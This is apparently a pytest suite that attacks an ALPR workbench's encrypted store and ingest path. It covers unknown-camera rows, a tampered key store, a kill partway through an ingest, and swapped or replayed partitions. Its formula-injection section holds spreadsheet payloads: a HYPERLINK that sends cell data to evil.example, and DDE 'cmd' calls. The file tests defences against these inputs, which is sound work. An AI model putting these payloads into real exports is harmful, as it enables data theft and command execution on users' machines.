"""Attacks on the encrypted store and on ingest (issue #14).

Each test is the attack as someone feeding the workbench bad or hostile data would run it,
against real key stores and real encrypted Parquet files.
"""

from __future__ import annotations

import base64
import datetime as dt
import json
import os
import re
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import polars as pl
import pytest
from typer.testing import CliRunner

from alpr_workbench.cli import app
from alpr_workbench.errors import KeyStoreError, WorkbenchError
from alpr_workbench.ingest import ingest_csv, ingest_reads, read_reads_csv
from alpr_workbench.store import Store
from conftest import PASSPHRASE, make_reads

runner = CliRunner()
NOW = dt.datetime(2026, 10, 4, 12, 0, tzinfo=dt.UTC)
HEADER = "read_id,camera_id,network_id,captured_at,plate,confidence_pct,lat,lon,source\n"


def _register_cameras(store: Store) -> None:
    """The cameras and networks ``make_reads`` uses: cam-00..cam-09 on bpd-city."""
    store.tables.write(
        "networks",
        pl.DataFrame(
            {
                "network_id": ["bpd-city", "hoa-net"],
                "name": ["City", "HOA"],
                "owner_type": ["city", "hoa"],
                "owner_name": ["Burbank", "Oaks HOA"],
                "is_department_owned": [True, False],
                "created_at": [dt.datetime(2026, 1, 1, tzinfo=dt.UTC)] * 2,
            }
        ),
    )
    ids = [f"cam-{i:02d}" for i in range(10)] + ["hoa-01"]
    store.tables.write(
        "cameras",
        pl.DataFrame(
            {
                "camera_id": ids,
                "network_id": ["bpd-city"] * 10 + ["hoa-net"],
                "name": ids,
                "lat": 34.18,
                "lon": -118.31,
                "direction": "N",
                "installed_date": dt.date(2026, 1, 1),
            }
        ),
    )


@pytest.fixture
def city(store: Store) -> Store:
    _register_cameras(store)
    return store


def _ingest(store: Store, batch: pl.DataFrame):  # noqa: ANN202 - IngestResult
    from alpr_workbench.governance.audit_log import AuditLog

    audit = AuditLog.open(store.home, store.keystore)
    return ingest_reads(store, batch, audit_append=audit.append, actor="t.ingester", now=NOW)


def _env() -> dict[str, str]:
    return {"ALPR_WORKBENCH_PASSPHRASE": PASSPHRASE}


# -- 1. bad input ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("column", "value", "problem"),
    [
        ("camera_id", "cam-ghost", "unknown camera 'cam-ghost'"),
        ("network_id", "net-ghost", "unknown network 'net-ghost'"),
        ("network_id", "hoa-net", "camera 'cam-0\\d' belongs to network 'bpd-city'"),
    ],
)
def test_reads_from_unknown_cameras_or_networks_are_refused(city, column, value, problem):
    batch = make_reads(20).with_columns(
        pl.when(pl.int_range(pl.len()) == 7).then(pl.lit(value)).otherwise(pl.col(column))
        .alias(column)
    )
    with pytest.raises(WorkbenchError, match=f"row 7.*{problem}"):
        _ingest(city, batch)
    assert city.reads.days() == []


def test_csv_with_an_unknown_camera_names_the_line(city, tmp_path):
    csv = tmp_path / "reads.csv"
    csv.write_text(
        HEADER
        + "x-1,cam-01,bpd-city,2026-10-01T08:00:00Z,7ABC123,90,34.18,-118.31,camera\n"
        + "x-2,cam-99,bpd-city,2026-10-01T08:00:00Z,7ABC124,90,34.18,-118.31,camera\n"
    )
    from alpr_workbench.governance.audit_log import AuditLog

    audit = AuditLog.open(city.home, city.keystore)
    with pytest.raises(WorkbenchError) as refused:  # the service's ingest route calls this
        ingest_csv(city, csv, audit_append=audit.append, actor="t.ingester", now=NOW)
    assert "line 3" in str(refused.value) and "cam-99" in str(refused.value)
    assert city.reads.days() == []


def test_reads_dated_in_the_future_are_refused(city):
    batch = make_reads(10, start=dt.date(2099, 1, 1), days=1)
    with pytest.raises(WorkbenchError, match="row 0.*in the future"):
        _ingest(city, batch)
    # a small clock skew is tolerated
    skewed = make_reads(3, start=NOW.date(), days=1).with_columns(
        captured_at=pl.lit(NOW + dt.timedelta(seconds=30))
    )
    assert _ingest(city, skewed).report.rows_added == 3
    assert city.reads.days() == [NOW.date()]


def test_naive_times_in_a_csv_are_refused(city, tmp_path):
    csv = tmp_path / "naive.csv"
    csv.write_text(
        HEADER
        + "x-1,cam-01,bpd-city,2026-10-01T08:00:00Z,7ABC123,90,34.18,-118.31,camera\n"
        + "x-2,cam-01,bpd-city,2026-10-01T08:00:00,7ABC124,90,34.18,-118.31,camera\n"
    )
    with pytest.raises(WorkbenchError, match="line 3.*captured_at.*no time zone"):
        read_reads_csv(csv)


def test_an_altered_wrapped_key_is_a_clear_error_naming_the_key_store(store):
    store.reads.ingest(make_reads(10, days=1))
    path = store.home / "keys" / "keystore.json"
    doc = json.loads(path.read_text())
    entry = doc["keys"]["reads/2026-10-01/pii"]["versions"][0]
    raw = bytearray(base64.b64decode(entry["wrapped"]))
    raw[-1] ^= 0x01
    entry["wrapped"] = base64.b64encode(bytes(raw)).decode()
    path.write_text(json.dumps(doc))
    fresh = Store.open(store.home, passphrase=PASSPHRASE)
    with pytest.raises(KeyStoreError, match="keystore.json.*damaged.*passphrase"):
        fresh.keystore.get_key("reads/2026-10-01/pii", 1)


def test_a_10_mb_line_does_not_make_a_10_mb_error(tmp_path):
    csv = tmp_path / "huge.csv"
    csv.write_text("read_id,captured_at\n" + "x-1," + "9" * 10_000_000 + "\n")
    with pytest.raises(WorkbenchError) as caught:
        read_reads_csv(csv)
    assert "line 2" in str(caught.value) and len(str(caught.value)) < 1000
    header = tmp_path / "header.csv"
    header.write_text("A" * 10_000_000 + "\n")
    with pytest.raises(WorkbenchError) as caught:
        read_reads_csv(header)
    assert len(str(caught.value)) < 1000


# (ingest-frames now goes through the service: tests/attacks/test_attack_ingest_frames.py)


# -- 2. CSV formula injection ------------------------------------------------------------

CASE = "BPD-2026-900001"
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open image")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _gate_city(store: Store) -> None:
    _register_cameras(store)
    t0 = NOW - dt.timedelta(days=10)
    users = store.tables.read("users").schema
    store.tables.write(
        "users",
        pl.DataFrame(
            [
                {
                    "user_id": "t.analyst",
                    "full_name": "T Analyst",
                    "role": "analyst",
                    "organization": "Burbank Police Department",
                    "organization_type": "ca_local_agency",
                    "job_title": "Crime Analyst",
                    "is_active": True,
                    "approved_by": "dlee",
                    "approved_at": t0,
                    "trained_at": t0,
                }
            ],
            schema=users,
        ),
    )
    store.tables.write(
        "cases",
        pl.DataFrame(
            {
                "case_number": [CASE],
                "title": ["Stolen Civic"],
                "offense_type": ["motor_vehicle_theft"],
                "status": ["open"],
                "opened_at": [t0],
                "assigned_user_ids": [["t.analyst"]],
            }
        ),
    )


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_formulas_in_ingested_reads_are_defused_in_exports(store, tmp_path):
    from alpr_workbench.governance.audit_log import AuditLog
    from alpr_workbench.governance.gate import Gate, SearchRequest

    _gate_city(store)
    hostile = make_reads(len(PAYLOADS), days=1).with_columns(
        plate=pl.lit("7EVL123"),
        image_ref=pl.Series(PAYLOADS),
        alternate_plates=pl.lit(["=1+1"]),
    )
    csv = tmp_path / "vendor.csv"
    csv.write_text(
        hostile.with_columns(
            pl.col("alternate_plates").list.join(";"),
            pl.col("captured_at").dt.strftime("%Y-%m-%dT%H:%M:%S%.fZ"),
        ).write_csv()
    )
    _ingest(store, read_reads_csv(csv))
    audit = AuditLog.open(store.home, store.keystore)
    pinned = getattr(Gate, "_for_testing", None)  # the gate's clock is pinned for tests only
    gate = (
        pinned(store, audit, clock=lambda: NOW)
        if pinned is not None
        else Gate(store, audit, clock=lambda: NOW)  # type: ignore[call-arg]
    )
    request = SearchRequest(
        case_number=CASE, reason_code="motor_vehicle_theft", reason_text="stolen Civic",
        plate="7EVL123",
    )
    result = gate.search("t.analyst", request)
    assert result.rows.height == len(PAYLOADS)
    out = gate.export("t.analyst", result, tmp_path / "export.csv")
    import csv as csvlib

    with out.open(newline="") as fh:
        cells = [cell for row in csvlib.reader(fh) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(c)]
    refs = {c for c in cells if "cmd|" in c or "HYPERLINK" in c or "=1+1" in c}
    assert refs and all(c.startswith("'") for c in refs)
    # the values themselves are kept as stored, only defused on the way out
    assert sorted(store.reads.query(columns=["image_ref"])["image_ref"]) == sorted(PAYLOADS)


# -- 3. every ingest is audited ------------------------------------------------------------


def _ingest_events(home: Path) -> list[dict[str, object]]:
    from alpr_workbench.governance.audit_log import AuditLog

    store = Store.open(home, passphrase=PASSPHRASE)
    events = AuditLog.open(home, store.keystore).events()
    return events.filter(pl.col("event_type") == "ingest").to_dicts()


def test_an_ingest_leaves_one_audit_record_saying_what_it_stored(city, tmp_path):
    csv = tmp_path / "vendor.csv"
    batch = make_reads(500)
    csv.write_text(
        batch.with_columns(
            pl.col("alternate_plates").list.join(";"),
            pl.col("captured_at").dt.strftime("%Y-%m-%dT%H:%M:%S%.fZ"),
        ).write_csv()
    )
    # Since #15 ingest acts as the user signed in to the real service (an administrator).
    from admin_fixtures import add_users, serve, sign_in
    from service_fixtures import stop_service

    add_users(city.home, {"t.ingester": "administrator"}, passphrase=PASSPHRASE)
    service = serve(city.home, passphrase=PASSPHRASE)
    try:
        session = sign_in(service, ["t.ingester"], tmp_path, passphrase=PASSPHRASE)["t.ingester"]
        result = runner.invoke(app, ["ingest", str(csv), "--session-file", str(session)])
        bad = tmp_path / "bad.csv"
        bad.write_text(
            HEADER + "x-1,cam-99,bpd-city,2026-10-01T08:00:00Z,7ABC1,90,34,-118,camera\n"
        )
        refused = runner.invoke(app, ["ingest", str(bad), "--session-file", str(session)])
    finally:
        stop_service(service)
    assert result.exit_code == 0, result.output
    events = _ingest_events(city.home)
    # The good file: "started" before its commit, then its outcome; the bad one: refused.
    assert [e["outcome"] for e in events] == ["started", "allowed", "refused"]
    assert json.loads(str(events[0]["query_json"]))["batch_id"] == json.loads(
        str(events[1]["query_json"]))["batch_id"]
    event = events[1]
    assert event["outcome"] == "allowed" and event["user_id"] == "t.ingester"
    assert event["row_count"] == 500
    detail = json.loads(str(event["query_json"]))
    assert detail["source"] == str(csv) and detail["rows_stored"] == 500
    assert detail["days"] == ["2026-10-01", "2026-10-02", "2026-10-03"]
    assert detail["hits_added"] == 0
    # a refused ingest is audited too, with why
    assert refused.exit_code
    last = _ingest_events(city.home)[-1]
    assert last["outcome"] == "refused" and "cam-99" in str(last["refusal_reason"])


# -- 4. an ingest, with its hits, is one unit ----------------------------------------------

KILL_INGEST = textwrap.dedent("""
    import sys, datetime as dt
    import polars as pl
    sys.path.insert(0, {tests!r})
    from conftest import make_reads
    from alpr_workbench.store import Store
    store = Store.open({home!r})
    for i in range({batches}):
        start = dt.date(2026, 9, 1)
        reads = make_reads({rows}, start=start, days={days}, seed=i, prefix=f"b{{i}}-")
        hits = reads.gather_every(100).select(
            pl.concat_str(pl.lit("h-"), "read_id").alias("hit_id"), "read_id",
            pl.lit("e-1").alias("entry_id"), pl.lit("hl-1").alias("hotlist_id"),
            pl.lit("custom").alias("hotlist_source"), "camera_id", "network_id", "captured_at",
            pl.col("plate").alias("read_plate"), pl.col("plate").alias("listed_plate"),
            pl.lit("exact").alias("match_tier"), pl.lit(1, pl.Int32).alias("priority"),
            pl.lit("pending").alias("disposition"),
        )
        print("start", i, flush=True)
        store.ingest(reads, hits=hits)
        print("committed", i, flush=True)
""")


def _kill_mid_ingest(home: Path, script: Path, delay_s: float) -> None:
    env = {**os.environ, "ALPR_WORKBENCH_PASSPHRASE": PASSPHRASE}
    proc = subprocess.Popen(
        [sys.executable, str(script)], stdout=subprocess.PIPE, env=env, text=True
    )
    assert proc.stdout is not None
    while True:  # wait until an ingest is under way, then kill it somewhere inside
        line = proc.stdout.readline()
        assert line, "ingest process ended early"
        if line.startswith("start 1"):
            break
    time.sleep(delay_s)
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    proc.stdout.close()


@pytest.mark.parametrize("delay_s", [0.05, 0.4, 0.9])
def test_a_kill_mid_ingest_leaves_every_batch_whole_or_absent(tmp_path, delay_s):
    home = tmp_path / "home"
    Store.create(home, passphrase=PASSPHRASE)
    script = tmp_path / "ingest.py"
    rows, batches = 60_000, 6
    script.write_text(
        KILL_INGEST.format(
            tests=str(Path(__file__).parents[1]), home=str(home), batches=batches, rows=rows,
            days=6,
        )
    )
    for _ in range(2):  # two kills, the second one inside a store the first one left behind
        _kill_mid_ingest(home, script, delay_s)
        store = Store.open(home, passphrase=PASSPHRASE)
        assert store.verify() == []
        ids = store.reads.query(columns=["read_id"])["read_id"]
        per_batch = ids.str.extract(r"^(b\d+)-").value_counts()
        hit_ids = store.tables.read("hits")["read_id"].str.extract(r"^(b\d+)-").value_counts()
        reads_by = dict(per_batch.iter_rows())
        hits_by = dict(hit_ids.iter_rows())
        assert reads_by, "no batch committed before the kill"
        for batch, count in reads_by.items():  # whole or absent, reads and hits together
            assert count == rows, f"batch {batch}: {count} of {rows} reads visible"
            assert hits_by.get(batch) == rows // 100, f"batch {batch}: reads without hits"
        assert set(hits_by) <= set(reads_by)


# -- 5. partitions are bound to their place; manifests and the index are authenticated -----

DAY1, DAY2 = dt.date(2026, 10, 1), dt.date(2026, 10, 2)


def _day(store: Store, day: dt.date) -> Path:
    return store.home / "store" / "reads" / f"day={day.isoformat()}"


def _three_days(store: Store) -> Store:
    store.reads.ingest(make_reads(600, days=3))
    return Store.open(store.home, passphrase=PASSPHRASE)


def _assert_caught(home: Path, where: str) -> None:
    """``verify``, the CLI, and an ordinary read all name the damaged partition."""
    fresh = Store.open(home, passphrase=PASSPHRASE)
    problems = fresh.verify()
    assert any(re.search(where, p) for p in problems), problems
    result = runner.invoke(app, ["verify", "--data-dir", str(home)], env=_env())
    assert result.exit_code != 0, result.output
    assert re.search(where, result.output) and "sound" not in result.output
    with pytest.raises(WorkbenchError, match=where):
        fresh.reads.query()
    with pytest.raises(WorkbenchError, match=where):
        fresh.reads.query(where=pl.col("camera_id") == "cam-03")


@pytest.mark.parametrize("how", ["delete", "empty", "no files", "whole folder"])
def test_a_deleted_or_emptied_manifest_never_silently_drops_a_day(store, how):
    store = _three_days(store)
    manifest = _day(store, DAY2) / "_manifest.json"
    if how == "delete":
        manifest.unlink()
    elif how == "empty":
        manifest.write_bytes(b"")
    elif how == "no files":
        doc = json.loads(manifest.read_text())
        doc["files"] = []
        manifest.write_text(json.dumps(doc))
    else:
        import shutil

        shutil.rmtree(manifest.parent)
    _assert_caught(store.home, "day=2026-10-02")


def test_swapped_day_folders_are_caught(store):
    store = _three_days(store)
    one, two = _day(store, DAY1), _day(store, DAY2)
    one.rename(one.with_name("swap"))
    two.rename(one)
    one.with_name("swap").rename(two)
    _assert_caught(store.home, "day=2026-10-0[12]")


def test_a_file_from_another_day_under_this_days_name_does_not_decrypt(store):
    from alpr_workbench.store._kms import key_material_path
    from alpr_workbench.store._partition import index_path

    store = _three_days(store)
    victim = store.reads.partition(DAY1).files()[0]
    donor = store.reads.partition(DAY2).files()[0]
    for make in (lambda p: p, key_material_path, index_path):
        make(victim).write_bytes(make(donor).read_bytes())
    _assert_caught(store.home, "day=2026-10-01")


def test_a_file_from_the_same_day_under_another_name_does_not_decrypt(store):
    from alpr_workbench.store._kms import key_material_path
    from alpr_workbench.store._partition import index_path

    store.reads.ingest(make_reads(300, days=1))
    store.reads.ingest(make_reads(300, days=1, prefix="s", seed=3))
    first, second = store.reads.partition(DAY1).files()
    for make in (lambda p: p, key_material_path, index_path):
        make(second).write_bytes(make(first).read_bytes())
    _assert_caught(store.home, "day=2026-10-01")


def test_replaying_an_older_copy_of_a_day_is_caught(store, tmp_path):
    import shutil

    store = _three_days(store)
    backup = tmp_path / "day1-backup"
    shutil.copytree(_day(store, DAY1), backup)
    store.reads.ingest(make_reads(50, days=1, prefix="late", seed=5))
    shutil.rmtree(_day(store, DAY1))
    shutil.copytree(backup, _day(store, DAY1))
    _assert_caught(store.home, "day=2026-10-01")


def test_replaying_an_older_copy_of_the_whole_store_folder_is_caught(store, tmp_path):
    import shutil

    store = _three_days(store)
    backup = tmp_path / "store-backup"
    shutil.copytree(store.home / "store", backup)
    store.reads.ingest(make_reads(50, days=1, prefix="late", seed=5))
    shutil.rmtree(store.home / "store")
    shutil.copytree(backup, store.home / "store")
    fresh = Store.open(store.home, passphrase=PASSPHRASE)
    assert any("older copy" in p for p in fresh.verify())
    with pytest.raises(WorkbenchError, match="older copy"):
        fresh.reads.query()


def test_an_older_copy_of_a_table_is_caught(city, tmp_path):
    import shutil

    cameras = city.home / "store" / "tables" / "cameras"
    backup = tmp_path / "cameras-backup"
    shutil.copytree(cameras, backup)
    city.tables.append("cameras", city.tables.read("cameras").head(1).with_columns(
        camera_id=pl.lit("cam-new")
    ))
    shutil.rmtree(cameras)
    shutil.copytree(backup, cameras)
    fresh = Store.open(city.home, passphrase=PASSPHRASE)
    assert any("table cameras" in p for p in fresh.verify())
    with pytest.raises(WorkbenchError, match="table cameras"):
        fresh.tables.read("cameras")


def test_a_purged_day_is_not_reported_missing(store):
    store = _three_days(store)
    store.reads.purge(as_of=DAY2 + dt.timedelta(days=30), retention_days=30)
    fresh = Store.open(store.home, passphrase=PASSPHRASE)
    assert fresh.verify() == []
    assert fresh.reads.days() == [DAY2, dt.date(2026, 10, 3)]
    assert fresh.reads.query().height > 0


def test_a_store_in_the_old_format_is_refused_with_a_clear_error(store):
    """A store made before manifests were authenticated: no index, no witness, no MAC key."""
    store = _three_days(store)
    keystore = store.home / "keys" / "keystore.json"
    doc = json.loads(keystore.read_text())
    doc["keys"] = {k: v for k, v in doc["keys"].items() if not k.startswith("store/")}
    keystore.write_text(json.dumps(doc))
    (store.home / "store" / "_index.json").unlink()
    (store.home / "keys" / "witness-store.bin").unlink()
    for manifest in (store.home / "store").rglob("_manifest.json"):
        old = json.loads(manifest.read_text())
        manifest.write_text(json.dumps({"format": 1, "table": old["table"], "files": old["files"]}))
    with pytest.raises(WorkbenchError, match="older format"):
        Store.open(store.home, passphrase=PASSPHRASE)
